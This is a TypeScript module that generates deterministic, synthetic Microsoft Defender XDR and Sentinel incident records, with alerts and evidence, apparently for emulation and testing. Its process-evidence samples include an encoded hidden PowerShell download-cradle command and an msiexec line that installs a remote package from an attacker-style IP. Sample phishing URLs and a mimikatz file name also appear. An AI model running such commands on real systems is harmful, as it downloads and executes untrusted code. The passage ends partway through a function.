/**
 * A seeded, deterministic generator of realistic Defender XDR incidents (Graph v1.0 wire shape, alerts and
 * evidence included) and of the Sentinel copies Microsoft's own connector makes of them. Uses only its own
 * PRNG and the `baseTime` option — no `Math.random`, no `Date.now` — so the same options always give
 * deep-equal output.
 */
import {
  ANALYST_NAMES,
  CATEGORY_WORDS,
  COMMENT_TEXTS,
  COUNTRIES,
  CUSTOM_TAGS,
  type EvidenceKind,
  HOSTNAMES,
  PRODUCTS,
  type Product,
  TACTICS,
} from "./catalog";
import { createRng } from "./prng";
import { formatTicks, parseTimestamp } from "./time";
import type {
  EmulatorUser,
  GraphAlert,
  GraphComment,
  GraphEvidence,
  GraphIncident,
  SentinelLabel,
} from "./types";

/** Tenant ID of the emulator's (and the generator's) default Defender tenant. */
export const DEFAULT_TENANT_ID = "b3c1b5fc-828c-45fa-a1e1-10d74f6d6e9c";
/** Default base time of the generator (data lies in the `spanDays` before it). */
export const DEFAULT_BASE_TIME = "2025-06-01T00:00:00Z";
/** `lastModifiedBy` of changes made by Defender's correlation engine (merges). */
export const CORRELATION_ACTOR = "Microsoft Defender XDR - alert correlation";
/** Provider names Microsoft's connector uses for XDR incidents in Sentinel. */
export const XDR_PROVIDER_NAMES = ["Microsoft XDR", "Microsoft 365 Defender"] as const;

/**
 * Options of `createIncidentGenerator`: seed, time range of the generated activity, tenant, first incident number,
 * share of merged (redirected) incidents, and the analysts.
 */
export interface IncidentGeneratorOptions {
  /** Default 1. */
  seed?: number;
  /** Generated activity lies in the `spanDays` before this time. Default `DEFAULT_BASE_TIME`. */
  baseTime?: Date | string;
  /** Default 30. */
  spanDays?: number;
  tenantId?: string;
  /** Numeric id of the first incident. Default 1000 + 97 × (seed mod 50). */
  firstIncidentId?: number;
  /** Fraction of a batch that is merged into another incident of the batch. Default 0.06. */
  redirectedFraction?: number;
  /** Directory domain for analyst UPNs. Default `contoso.onmicrosoft.com`. */
  domain?: string;
  /** Analysts (owners, comment authors). Default: ten generated from `ANALYST_NAMES`. */
  users?: EmulatorUser[];
}

/** What the emulator's Sentinel workspace needs to create an incident the way the connector did. */
export interface SentinelIncidentSeed {
  name: string;
  properties: {
    title: string;
    severity: string;
    status: string;
    description?: string;
    classification?: string;
    classificationReason?: string;
    classificationComment?: string;
    owner?: {
      objectId?: string | null;
      userPrincipalName?: string | null;
      email?: string | null;
      assignedTo?: string | null;
    };
    labels: SentinelLabel[];
    firstActivityTimeUtc?: string;
    lastActivityTimeUtc?: string;
    providerName: string;
    providerIncidentId?: string;
    createdTimeUtc: string;
    lastModifiedTimeUtc: string;
    additionalData?: Record<string, unknown>;
  };
  alerts: { kind: "SecurityAlert"; properties: Record<string, unknown> }[];
  entities: { kind: string; properties: Record<string, unknown> }[];
}

/**
 * A seeded generator of realistic Defender incidents (with alerts and evidence), the Sentinel copies Microsoft's
 * connector would make of them, and native Sentinel incidents.
 */
export interface IncidentGenerator {
  readonly users: readonly EmulatorUser[];
  readonly tenantId: string;
  /** One new incident (never redirected). Fields in `overrides` replace generated ones. */
  incident(overrides?: Partial<GraphIncident>): GraphIncident;
  /** `count` incidents; about `redirectedFraction` of them are merged into others of the batch. */
  incidents(count: number): GraphIncident[];
  /** The copy Microsoft's Defender XDR connector would have made in Sentinel. */
  connectorCopy(
    incident: GraphIncident,
    options?: { name?: string; providerName?: string },
  ): SentinelIncidentSeed;
  /** A native Sentinel incident (providerName "Azure Sentinel"), as an analytics rule would create. */
  sentinelIncident(): SentinelIncidentSeed;
  /** A GUID from the generator's stream. */
  guid(): string;
}

/** A deterministic directory of analysts for `domain`. */
export function createUsers(domain = "contoso.onmicrosoft.com", seed = 7): EmulatorUser[] {
  const rng = createRng(seed);
  return ANALYST_NAMES.map(([displayName, alias]) => ({
    objectId: rng.guid(),
    userPrincipalName: `${alias}@${domain}`,
    email: `${alias.toLowerCase()}@${domain.replace(/\.onmicrosoft\.com$/, ".com")}`,
    displayName,
  }));
}

const SEVERITY_RANK: Record<string, number> = { unknown: 0, informational: 1, low: 2, medium: 3, high: 4 };

/** Resolved classification → plausible determinations (Graph v1.0 enum values). */
const CLASSIFICATIONS: readonly (readonly [string, readonly string[], number])[] = [
  [
    "truePositive",
    [
      "multiStagedAttack",
      "malware",
      "phishing",
      "compromisedAccount",
      "maliciousUserActivity",
      "unwantedSoftware",
      "other",
    ],
    45,
  ],
  [
    "informationalExpectedActivity",
    ["securityTesting", "lineOfBusinessApplication", "confirmedActivity", "other"],
    30,
  ],
  ["falsePositive", ["notMalicious", "notEnoughDataToValidate", "other"], 25],
];

function toTicks(value: Date | string): bigint {
  const t = typeof value === "string" ? parseTimestamp(value, 9) : BigInt(value.getTime()) * 10_000n;
  if (t === undefined) throw new RangeError(`baseTime ${String(value)} is not a valid timestamp`);
  return t;
}

/** Creates a seeded incident generator: the same options always produce the same incidents. */
export function createIncidentGenerator(options: IncidentGeneratorOptions = {}): IncidentGenerator {
  const seed = options.seed ?? 1;
  const rng = createRng(seed);
  const base = toTicks(options.baseTime ?? DEFAULT_BASE_TIME);
  const spanTicks = BigInt(Math.round((options.spanDays ?? 30) * 86_400_000)) * 10_000n;
  const tenantId = options.tenantId ?? DEFAULT_TENANT_ID;
  const domain = options.domain ?? "contoso.onmicrosoft.com";
  const users = options.users ?? createUsers(domain);
  const redirectedFraction = options.redirectedFraction ?? 0.06;
  let nextId = options.firstIncidentId ?? 1000 + 97 * (seed % 50);

  const ts = (ticks: bigint) => formatTicks(ticks);
  /** A time `minMs`..`maxMs` after `from`, with a seeded sub-ms part, never after base. */
  const after = (from: bigint, minMs: number, maxMs: number): bigint => {
    const t = from + BigInt(rng.int(minMs, maxMs)) * 10_000n + BigInt(rng.int(0, 9999));
    return t > base ? base - BigInt(rng.int(0, 9999)) : t;
  };

  function ip(): string {
    if (rng.chance(0.15)) {
      return `2001:db8:${rng.hex(4)}:${rng.hex(4)}::${rng.hex(3)}`;
    }
    return rng.chance(0.5)
      ? `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`
      : `${rng.pick([20, 40, 52, 91, 185, 203])}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
  }

  function alertId(product: Product): string {
    return `${product.idPrefix}${rng.int(100000000, 999999999)}${rng.int(100000000, 999999999)}_${rng.chance(0.5) ? "-" : ""}${rng.int(100000000, 2147483647)}`;
  }

  function fileDetails(name: string, path: string): Record<string, unknown> {
    return {
      sha1: rng.hex(40),
      sha256: rng.hex(64),
      md5: rng.chance(0.5) ? rng.hex(32) : null,
      fileName: name,
      filePath: path,
      fileSize: rng.int(1024, 48_000_000),
      filePublisher: rng.chance(0.6) ? "Microsoft Corporation" : null,
      signer: null,
      issuer: null,
    };
  }

  function userAccount(user: EmulatorUser | undefined): Record<string, unknown> {
    const u = user ?? rng.pick(users);
    const alias = u.userPrincipalName.split("@")[0]!;
    return {
      accountName: alias.toLowerCase(),
      domainName: "CONTOSO",
      userSid: `S-1-5-21-${rng.int(1000000000, 2147483647)}-${rng.int(1000000000, 2147483647)}-${rng.int(1000, 99999)}`,
      azureAdUserId: u.objectId,
      userPrincipalName: u.userPrincipalName,
      displayName: u.displayName,
    };
  }

  function evidence(
    kind: EvidenceKind,
    created: string,
    ctx: { device: string; user: EmulatorUser },
  ): GraphEvidence {
    const baseFields = {
      createdDateTime: created,
      verdict: rng.weighted([
        ["malicious", 3],
        ["suspicious", 4],
        ["unknown", 3],
        ["noThreatsFound", 1],
      ] as const),
      // Members after unknownFutureValue (active, pendingApproval, unremediated) appear too.
      remediationStatus: rng.weighted([
        ["none", 6],
        ["remediated", 2],
        ["prevented", 1],
        ["blocked", 1],
        ["active", 1],
        ["pendingApproval", 1],
        ["unremediated", 1],
      ] as const),
      remediationStatusDetails: null,
      roles: [] as string[],
      detailedRoles: [] as string[],
      tags: [] as string[],
    };
    const type = (name: string) => `#microsoft.graph.security.${name}`;
    switch (kind) {
      case "device": {
        const host = ctx.device;
        const os = rng.pick(["Windows11", "Windows10", "WindowsServer2022", "Linux", "macOS"]);
        const vm = rng.chance(0.3);
        return {
          "@odata.type": type("deviceEvidence"),
          ...baseFields,
          roles: rng.chance(0.5) ? ["compromised"] : [],
          detailedRoles: ["Main device"],
          tags: rng.chance(0.2) ? ["Test Machine"] : [],
          firstSeenDateTime: ts(base - spanTicks * 4n + BigInt(rng.int(0, 1_000_000)) * 10_000n),
          mdeDeviceId: rng.hex(40),
          azureAdDeviceId: rng.chance(0.6) ? rng.guid() : null,
          deviceDnsName: `${host}.contoso.com`,
          hostName: host,
          ntDomain: "CONTOSO",
          dnsDomain: "contoso.com",
          osPlatform: os,
          osBuild: os.startsWith("Windows") ? rng.pick([19045, 22621, 22631, 20348]) : rng.int(1, 30),
          version: rng.pick(["22H2", "23H2", "21H2", "Other"]),
          healthStatus: rng.pick(["active", "active", "inactive", "impairedCommunication"]),
          riskScore: rng.pick(["none", "informational", "low", "medium", "high"]),
          rbacGroupId: rng.int(1, 120),
          rbacGroupName: rng.pick(["UnassignedGroup", "Servers", "Finance laptops", "Büro München"]),
          onboardingStatus: "onboarded",
          defenderAvStatus: rng.pick(["updated", "notUpdated", "unknown"]),
          ipInterfaces: [ip(), ip()],
          lastIpAddress: ip(),
          lastExternalIpAddress: ip(),
          loggedOnUsers: [
            { accountName: ctx.user.userPrincipalName.split("@")[0]!.toLowerCase(), domainName: "CONTOSO" },
          ],
          vmMetadata: vm
            ? {
                vmId: rng.guid(),
                cloudProvider: "azure",
                resourceId: `/subscriptions/${rng.guid()}/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/${host}`,
                subscriptionId: rng.guid(),
              }
            : null,
        };
      }
      case "user":
        return {
          "@odata.type": type("userEvidence"),
          ...baseFields,
          roles: rng.chance(0.5) ? ["compromised"] : ["contextual"],
          userAccount: userAccount(ctx.user),
        };
      case "ip": {
        const [code, country, city] = rng.pick(COUNTRIES);
        return {
          "@odata.type": type("ipEvidence"),
          ...baseFields,
          roles: rng.chance(0.4) ? ["attacker"] : [],
          ipAddress: ip(),
          countryLetterCode: code,
          location: {
            city,
            countryName: country,
            state: null,
            latitude: rng.int(-600000, 600000) / 10000,
            longitude: rng.int(-1700000, 1700000) / 10000,
          },
        };
      }
      case "url":
        return {
          "@odata.type": type("urlEvidence"),
          ...baseFields,
          roles: rng.chance(0.5) ? ["commandAndControl"] : [],
          url: rng.pick([
            `https://login-micros0ft-${rng.hex(4)}.com/oauth2/authorize?client_id=${rng.guid()}`,
            `http://${rng.hex(8)}.example.net/payload.ps1`,
            `https://sharepoint-docs-${rng.hex(3)}.web.app/Überweisung.pdf`,
            `https://bit.ly/${rng.hex(7)}`,
          ]),
        };
      case "file": {
        const [name, path] = rng.pick([
          ["MsSense.exe", "C:\\Program Files\\temp"],
          ["invoice_2024.pdf.exe", "C:\\Users\\Public\\Downloads"],
          ["mimikatz.exe", "C:\\Windows\\Temp"],
          ["Rechnung_Überfällig.docm", "C:\\Users\\müller\\Downloads"],
          ["update.sh", "/tmp"],
        ] as const);
        return {
          "@odata.type": type("fileEvidence"),
          ...baseFields,
          detailedRoles: rng.chance(0.5) ? ["Referred in command line"] : [],
          detectionStatus: rng.pick(["detected", "blocked", "prevented"]),
          mdeDeviceId: rng.hex(40),
          fileDetails: fileDetails(name, path),
        };
      }
      case "process": {
        const pid = rng.int(100, 65000);
        const created2 = ts(toTicks(created) - BigInt(rng.int(1000, 600000)) * 10_000n);
        return {
          "@odata.type": type("processEvidence"),
          ...baseFields,
          processId: pid,
          parentProcessId: rng.int(4, 9999),
          processCommandLine: rng.pick([
            '"MsSense.exe"',
            "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "rundll32.exe C:\\Users\\Public\\x.dll,Start",
            "msiexec /q /i http://203.0.113.7/a.msi",
          ]),
          processCreationDateTime: created2,
          parentProcessCreationDateTime: ts(toTicks(created2) - BigInt(rng.int(1000, 6_000_000)) * 10_000n),
          detectionStatus: rng.pick(["detected", "blocked", "prevented"]),
          mdeDeviceId: rng.hex(40),
          imageFile: fileDetails(
            rng.pick(["powershell.exe", "rundll32.exe", "MsSense.exe", "msiexec.exe"]),
            "C:\\Windows\\System32",
          ),
          parentProcessImageFile: fileDetails(
            rng.pick(["explorer.exe", "services.exe", "winword.exe"]),
            "C:\\Windows",
          ),
          userAccount: userAccount(ctx.user),
        };
      }
      case "mailbox":
        return {
          "@odata.type": type("mailboxEvidence"),
          ...baseFields,
          roles: ["contextual"],
          displayName: ctx.user.displayName,
          primaryAddress: ctx.user.email,
          upn: ctx.user.userPrincipalName,
          userAccount: userAccount(ctx.user),
        };
      case "analyzedMessage":
        return {
          "@odata.type": type("analyzedMessageEvidence"),
          ...baseFields,
          networkMessageId: rng.guid(),
          internetMessageId: `<${rng.hex(24)}@${rng.pick(["mail.example.net", "prod.outlook.com", "smtp.fabrikam.com"])}>`,
          subject: rng.pick([
            "Action required: verify your account",
            "Rechnung Nr. 4711 – Zahlung überfällig",
            "【重要】パスワードの有効期限",
            "RE: wire transfer 💸",
            "Your mailbox is almost full",
          ]),
          senderIp: ip(),
          recipientEmailAddress: ctx.user.email,
          p1Sender: {
            displayName: "IT Service Desk",
            domainName: "example.net",
            emailAddress: `helpdesk@${rng.hex(6)}.example.net`,
          },
          p2Sender: {
            displayName: "IT Service Desk",
            domainName: "example.net",
            emailAddress: "noreply@example.net",
          },
          antiSpamDirection: "inbound",
          deliveryAction: rng.pick(["delivered", "blocked", "junked", "replaced"]),
          deliveryLocation: rng.pick(["inbox", "junkFolder", "quarantine", "deletedFolder"]),
          receivedDateTime: created,
          attachmentsCount: rng.int(0, 3),
          urlCount: rng.int(0, 5),
          urls: [`https://${rng.hex(6)}.example.net/login`],
          threats: [rng.pick(["Phish", "Malware", "Spam"])],
          threatDetectionMethods: [rng.pick(["urlDetonationReputation", "fileDetonation", "general filter"])],
          language: rng.pick(["en", "de", "ja"]),
          urn: `urn:MailEntity:${rng.hex(32)}`,
        };
      case "mailCluster":
        return {
          "@odata.type": type("mailClusterEvidence"),
          ...baseFields,
          clusterBy: "Subject;P2SenderDomain",
          clusterByValue: rng.hex(16),
          emailCount: rng.int(2, 400),
          networkMessageIds: [rng.guid(), rng.guid()],
          query: '(Subject:"Action required") AND (P2SenderDomain:example.net)',
          urn: `urn:MailClusterEntity:${rng.hex(32)}`,
        };
      case "cloudApplication":
        return {
          "@odata.type": type("cloudApplicationEvidence"),
          ...baseFields,
          appId: rng.pick([11161, 20893, 15600, 28375]),
          displayName: rng.pick([
            "Microsoft Exchange Online",
            "Microsoft SharePoint Online",
            "Microsoft OneDrive for Business",
            "Box",
          ]),
          instanceId: 0,
          instanceName: rng.pick(["Microsoft 365", "Box"]),
          saasAppId: rng.pick([11161, 20893, 15600]),
        };
      case "oauthApplication":
        return {
          "@odata.type": type("oauthApplicationEvidence"),
          ...baseFields,
          appId: rng.guid(),
          displayName: rng.pick(["Mail Sync Pro", "PDF Converter Online", "Contoso CRM"]),
          objectId: rng.guid(),
          publisher: rng.pick(["Unverified", "Contoso Ltd"]),
        };
      case "registryKey":
        return {
          "@odata.type": type("registryKeyEvidence"),
          ...baseFields,
          registryKey: "SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER",
          registryHive: "HKEY_LOCAL_MACHINE",
        };
      case "registryValue":
        return {
          "@odata.type": type("registryValueEvidence"),
          ...baseFields,
          registryHive: "HKEY_CURRENT_USER",
          registryKey: "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
          registryValue: "C:\\Users\\Public\\updater.exe",
          registryValueName: "Updater",
          registryValueType: "String",
          mdeDeviceId: rng.hex(40),
        };
      case "securityGroup":
        return {
          "@odata.type": type("securityGroupEvidence"),
          ...baseFields,
          securityGroupId: rng.guid(),
          displayName: "Domain Admins",
          distinguishedName: "CN=Domain Admins,CN=Users,DC=contoso,DC=com",
          friendlyName: "Domain Admins",
          sid: "S-1-5-21-1004336348-1177238915-682003330-512",
          activeDirectoryObjectGuid: rng.guid(),
        };
    }
  }

  function makeAlert(
    incidentId: string,
    product: Product,
    createdTicks: bigint,
    ctx: { device: string; user: EmulatorUser },
  ): GraphAlert {
    const template = rng.pick(product.templates);
    const id = alertId(product);
    const created = ts(createdTicks);
    const first = ts(createdTicks - BigInt(rng.int(60_000, 7_200_000)) * 10_000n);
    const last = ts(createdTicks - BigInt(rng.int(0, 60_000)) * 10_000n);
    const kinds = [
      ...product.mainEvidence,
      ...rng.sample(product.evidence, rng.int(1, Math.min(4, product.evidence.length))),
    ];
    return {
      "@odata.type": "#microsoft.graph.security.alert",
      id,
      providerAlertId: id,
      incidentId,
      status: "new",
      severity: rng.weighted([
        ["informational", 1],
        ["low", 3],
        ["medium", 4],
        ["high", 2],
      ] as const),
      classification: null,
      determination: null,
      serviceSource: product.serviceSource,
      detectionSource: rng.pick(product.detectionSources),
      productName: product.productName,
      detectorId: rng.guid(),
      tenantId,
      title: template.title,
      description: template.description,
      recommendedActions:
        "Collect artifacts and determine scope\n\u2022\tReview the machine timeline for suspicious activities.\n\u2022\tIf credential theft is suspected, reset all relevant users\u2019 passwords.",
      category: template.category,
      assignedTo: null,
      alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${tenantId}`,
      incidentWebUrl: `https://security.microsoft.com/incidents/${incidentId}?tid=${tenantId}`,
      actorDisplayName: null,
      threatDisplayName: template.title.includes("Mimikatz") ? "Mimikatz" : null,
      threatFamilyName: template.title.includes("Raspberry") ? "RaspberryRobin" : null,
      mitreTechniques: [...template.mitre],
      createdDateTime: created,
      lastUpdateDateTime: created,
      resolvedDateTime: null,
      firstActivityDateTime: first,
      lastActivityDateTime: last,
      investigationState: rng.pick([
        "unknown",
        "running",
        "successfullyRemediated",
        "benign",
        "pendingApproval",
        "terminatedBySystem",
      ]),
      alertPolicyId: product.key === "mdo" || product.key === "dlp" ? rng.guid() : null,
      systemTags: [],
      comments: [],
      evidence: kinds.map((k) => evidence(k, created, ctx)),
    };
  }

  function longText(words: number): string {
    const vocab = [
      "lorem",
      "ipsum",
      "Überprüfung",
      "lateral",
      "movement",
      "攻撃",
      "credential",
      "token",
      "café",
      "naïve",
      "—",
      "🙂",
      "exfiltration",
      "beacon",
    ];
    const out: string[] = [];
    for (let i = 0; i < words; i++) out.push(rng.pick(vocab));
    return out.join(" ");
  }

  function makeIncident(overrides: Partial<GraphIncident> = {}): GraphIncident {
    const id = String(nextId++);
    const createdTicks =
      base -
      BigInt(rng.int(3_600_000, Math.max(3_600_001, Number(spanTicks / 10_000n)))) * 10_000n -
      BigInt(rng.int(0, 9999));
    const user = rng.pick(users);
    const device = rng.pick(HOSTNAMES);
    const ctx = { device, user };
    const nAlerts = rng.weighted([
      [1, 40],
      [2, 25],
      [3, 15],
      [4, 10],
      [6, 6],
      [12, 4],
    ] as const);
    const primary = rng.weighted(PRODUCTS.map((p) => [p, p.weight] as const));
    const alerts: GraphAlert[] = [];
    let t = createdTicks;
    for (let i = 0; i < nAlerts; i++) {
      const product =
        i === 0 || rng.chance(0.6) ? primary : rng.weighted(PRODUCTS.map((p) => [p, p.weight] as const));
      alerts.push(makeAlert(id, product, t, ctx));
      t = after(t, 1000, 1_800_000);
    }
    const severity = alerts.reduce(
      (acc, a) => ((SEVERITY_RANK[a.severity] ?? 0) > (SEVERITY_RANK[acc] ?? 0) ? a.severity : acc),
      "informational",
    );
    const categories = [...new Set(alerts.map((a) => a.category))];
    const products = new Set(alerts.map((a) => a.serviceSource));
    const onWhat = products.has("microsoftDefenderForEndpoint")
      ? alerts.length > 2
        ? "multiple endpoints"
        : "one endpoint"
      : "one user";
    let displayName =
      alerts.length === 1
        ? `'${alerts[0]!.title}' on ${onWhat}`
        : categories.length > 1
          ? `Multi-stage incident involving ${CATEGORY_WORDS[categories[0]!] ?? categories[0]} & ${CATEGORY_WORDS[categories[1]!] ?? categories[1]} on ${onWhat}${products.size > 1 ? " reported by multiple sources" : ""}`
          : `${alerts[0]!.title} involving ${user.displayName}`;
    const long = rng.chance(0.04);
    if (long) displayName = `${displayName} — ${longText(60)}`;
    let description: string | null = rng.chance(0.7)
      ? `${alerts[0]!.description} Affected user: ${user.displayName} (${user.userPrincipalName}); device ${device}.`
      : null;
    if (long) description = `${description ?? ""} ${longText(700)}`.trim();

    const status = rng.weighted([
      ["active", 50],
      ["inProgress", 14],
      ["resolved", 33],
      ["awaitingAction", 3],
    ] as const);
    const assignedTo =
      status === "resolved" || status === "inProgress" || rng.chance(0.4)
        ? rng.pick(users).userPrincipalName
        : null;
    let classification: string | null = "unknown";
    let determination: string | null = "unknown";
    let resolvingComment: string | null = null;
    if (status === "resolved" || (status !== "active" && rng.chance(0.2))) {
      const [c, dets] = rng.weighted(CLASSIFICATIONS.map(([c, d, w]) => [[c, d] as const, w] as const));
      classification = c;
      determination = rng.pick(dets);
      if (status === "resolved")
        resolvingComment = rng.pick([
          "Closed after remediation.",
          "Benign: scheduled red-team exercise.",
          "False positive – tuning the rule.",
          "Geschlossen nach Rücksprache mit dem Nutzer.",
        ]);
    }
    const comments: GraphComment[] = [];
    let ct = createdTicks;
    const nComments = rng.weighted([
      [0, 45],
      [1, 25],
      [2, 15],
      [3, 10],
      [5, 5],
    ] as const);
    for (let i = 0; i < nComments; i++) {
      ct = after(ct, 60_000, 86_400_000);
      comments.push({
        comment: rng.chance(0.05) ? `Long analysis: ${longText(800)}` : rng.pick(COMMENT_TEXTS),
        createdByDisplayName: rng.pick(users).userPrincipalName,
        createdDateTime: ts(ct),
      });
    }
    const lastAlert = alerts.at(-1)!;
    let updated = toTicks(lastAlert.createdDateTime);
    if (comments.length > 0) {
      const c = toTicks(comments.at(-1)!.createdDateTime);
      if (c > updated) updated = c;
    }
    if (status !== "active" || assignedTo) updated = after(updated, 1000, 3_600_000);
    const systemTags = status === "awaitingAction" || rng.chance(0.05) ? ["Defender Experts"] : [];
    const incident: GraphIncident = {
      "@odata.type": "#microsoft.graph.security.incident",
      id,
      incidentWebUrl: `https://security.microsoft.com/incidents/${id}?tid=${tenantId}`,
      redirectIncidentId: null,
      displayName,
      tenantId,
      createdDateTime: ts(createdTicks),
      lastUpdateDateTime: ts(updated),
      assignedTo,
      classification,
      determination,
      status,
      severity,
      customTags: rng.sample(
        CUSTOM_TAGS,
        rng.weighted([
          [0, 45],
          [1, 30],
          [2, 18],
          [3, 7],
        ] as const),
      ),
      systemTags,
      comments,
      description,
      summary:
        alerts.length > 2
          ? `Attackers used ${categories.map((c) => CATEGORY_WORDS[c] ?? c).join(", ")} against ${user.displayName}. ${alerts.length} alerts on ${device}.`
          : null,
      resolvingComment,
      lastModifiedBy: assignedTo ?? (status === "active" ? null : rng.pick(users).userPrincipalName),
      alerts,
    };
    if (status === "resolved") {
      for (const a of alerts) {
        a.status = "resolved";
        a.classification = classification;
        a.determination = determination;
        a.resolvedDateTime = incident.lastUpdateDateTime;
        a.lastUpdateDateTime = incident.lastUpdateDateTime;
      }
    } else if (status === "inProgress") {
      for (const a of alerts) a.status = "inProgress";
    }
    for (const a of alerts) a.assignedTo = assignedTo;
    return { ...incident, ...overrides };
  }

  function connectorCopy(
    incident: GraphIncident,
    opts: { name?: string; providerName?: string } = {},
  ): SentinelIncidentSeed {
    const sev = { high: "High", medium: "Medium", low: "Low" }[incident.severity] ?? "Informational";
    let status =
      incident.status === "resolved" || incident.status === "redirected"
        ? "Closed"
        : incident.assignedTo || incident.status !== "active"
          ? "Active"
          : "New";
    if (incident.status === "inProgress" || incident.status === "awaitingAction") status = "Active";
    const closing =
      status === "Closed"
        ? classificationToSentinel(incident.classification, incident.determination)
        : undefined;
    const owner = incident.assignedTo
      ? (() => {
          const u = users.find(
            (x) => x.userPrincipalName.toLowerCase() === incident.assignedTo!.toLowerCase(),
          );
          return u ? { objectId: u.objectId } : { userPrincipalName: incident.assignedTo };
        })()
      : undefined;
    const labels: SentinelLabel[] = incident.customTags.map((t) => ({ labelName: t, labelType: "User" }));
    if (incident.status === "redirected") labels.push({ labelName: "Redirected", labelType: "AutoAssigned" });
    // Connector latency: up to 10 minutes; never later than the generator's base time.
    const cap = (t: bigint) => (t > base ? base - BigInt(rng.int(0, 9999)) : t);
    const created = cap(toTicks(incident.createdDateTime) + BigInt(rng.int(20_000, 600_000)) * 10_000n);
    let modified = cap(toTicks(incident.lastUpdateDateTime) + BigInt(rng.int(1000, 120_000)) * 10_000n);
    if (modified < created) modified = created;
    const alerts = incident.alerts
      .slice(0, 150)
      .map((a) => ({ kind: "SecurityAlert" as const, properties: sentinelAlertProperties(a) }));
    return {
      name: opts.name ?? rng.guid(),
      properties: {
        title: incident.displayName,
        severity: sev,
        status,
        // XDR incidents arrive without description in Sentinel (Azure/Azure-Sentinel#10446).
        ...(closing ?? {}),
        ...(status === "Closed" && incident.resolvingComment
          ? { classificationComment: incident.resolvingComment }
          : {}),
        ...(owner ? { owner } : {}),
        labels,
        firstActivityTimeUtc:
          minOf(incident.alerts.map((a) => a.firstActivityDateTime)) ?? incident.createdDateTime,
        lastActivityTimeUtc:
          maxOf(incident.alerts.map((a) => a.lastActivityDateTime)) ?? incident.createdDateTime,
        providerName: opts.providerName ?? (rng.chance(0.1) ? "Microsoft 365 Defender" : "Microsoft XDR"),
        providerIncidentId: incident.id,
        createdTimeUtc: ts(created),
        lastModifiedTimeUtc: ts(modified),
        additionalData: {
          alertsCount: incident.alerts.length,
          alertProductNames: [
            ...new Set(incident.alerts.map((a) => productOf(a.serviceSource).sentinelProductName)),
          ],
          tactics: [...new Set(incident.alerts.map((a) => a.category).filter((c) => TACTICS.has(c)))],
          techniques: [
            ...new Set(incident.alerts.flatMap((a) => a.mitreTechniques.map((m) => m.split(".")[0]!))),
          ],
          providerIncidentUrl: incident.incidentWebUrl,
        },
      },
      alerts,
      entities: entitiesOf(incident.alerts),
    };
  }

  function sentinelIncident(): SentinelIncidentSeed {
    const createdTicks =
      base -
      BigInt(rng.int(3_600_000, Math.max(3_600_001, Number(spanTicks / 10_000n)))) * 10_000n -
      BigInt(rng.int(0, 9999));
    const product = productOf("microsoftSentinel");
    const user = rng.pick(users);
    const a = makeAlert("0", product, createdTicks, { device: rng.pick(HOSTNAMES), user });
    const status = rng.weighted([
      ["New", 5],
      ["Active", 3],
      ["Closed", 2],
    ] as const);
    const closing =
      status === "Closed"
        ? rng.pick([
            { classification: "TruePositive", classificationReason: "SuspiciousActivity" },
            { classification: "BenignPositive", classificationReason: "SuspiciousButExpected" },
            { classification: "FalsePositive", classificationReason: "IncorrectAlertLogic" },
            { classification: "Undetermined" },
          ])
        : undefined;
    const owner = status !== "New" || rng.chance(0.3) ? { objectId: rng.pick(users).objectId } : undefined;
    return {
      name: rng.guid(),
      properties: {
        title: a.title,
        severity: { high: "High", medium: "Medium", low: "Low" }[a.severity] ?? "Informational",
        status,
        description: a.description,
        ...(closing ?? {}),
        ...(owner ? { owner } : {}),
        labels: rng.sample(CUSTOM_TAGS, rng.int(0, 2)).map((t) => ({ labelName: t, labelType: "User" })),
        firstActivityTimeUtc: a.firstActivityDateTime,
        lastActivityTimeUtc: a.lastActivityDateTime,
        providerName: "Azure Sentinel",
        createdTimeUtc: ts(createdTicks),
        lastModifiedTimeUtc: ts(after(createdTicks, 1000, 86_400_000)),
        additionalData: {
          alertsCount: 1,
          alertProductNames: ["Azure Sentinel"],
          tactics: TACTICS.has(a.category) ? [a.category] : [],
          techniques: a.mitreTechniques.map((m) => m.split(".")[0]!),
        },
      },
      alerts: [{ kind: "SecurityAlert", properties: sentinelAlertProperties(a) }],
      entities: entitiesOf([a]),
    };
  }

  return {
    users,
    tenantId,
    guid: () => rng.guid(),
    incident: (overrides) => makeIncident(overrides),
    incidents(count) {
      const list: GraphIncident[] = [];
      for (let i = 0; i < count; i++) list.push(makeIncident());
      // Merge about `redirectedFraction` of them (Defender's correlation engine).
      const merges = Math.round(count * redirectedFraction);
      const open = () => list.filter((x) => x.status !== "resolved" && x.status !== "redirected");
      for (let m = 0; m < merges; m++) {
        const candidates = open();
        if (candidates.length < 2) break;
        const [source, target] = rng.sample(candidates, 2);
        const [s, tgt] = rng.chance(0.5) ? [source!, target!] : [target!, source!];
        const when = maxTicks(toTicks(s.lastUpdateDateTime), toTicks(tgt.lastUpdateDateTime));
        const stamp = ts(when > base - 10_000n ? when : after(when, 1000, 600_000));
        mergeIncidentRecords(s, tgt, stamp);
      }
      return list;
    },
    connectorCopy,
    sentinelIncident,
  };
}

/**
 * Generates `count` Defender incidents (Graph v1.0 wire shape, with alerts). Same options → deep-equal result.
 * Also callable as `generateIncidents({ count, seed, … })`.
 */
export function generateIncidents(count: number, options?: IncidentGeneratorOptions): GraphIncident[];
export function generateIncidents(options: IncidentGeneratorOptions & { count: number }): GraphIncident[];
export function generateIncidents(
  countOrOptions: number | (IncidentGeneratorOptions & { count: number }),
  options: IncidentGeneratorOptions = {},
): GraphIncident[] {
  if (typeof countOrOptions === "number") return createIncidentGenerator(options).incidents(countOrOptions);
  const { count, ...rest } = countOrOptions;
  return createIncidentGenerator(rest).incidents(count);
}

/**
 * Applies a Defender merge to two stored incidents: the source is redirected to the target, its alerts and
 * tags move there, it gets the `Redirected` system tag; both count as changed at `stamp`. Comments stay.
 */
export function mergeIncidentRecords(source: GraphIncident, target: GraphIncident, stamp: string): void {
  for (const alert of source.alerts) {
    alert.incidentId = target.id;
    alert.incidentWebUrl = target.incidentWebUrl;
    alert.lastUpdateDateTime = stamp;
  }
  target.alerts = [...target.alerts, ...source.alerts];
  source.alerts = [];
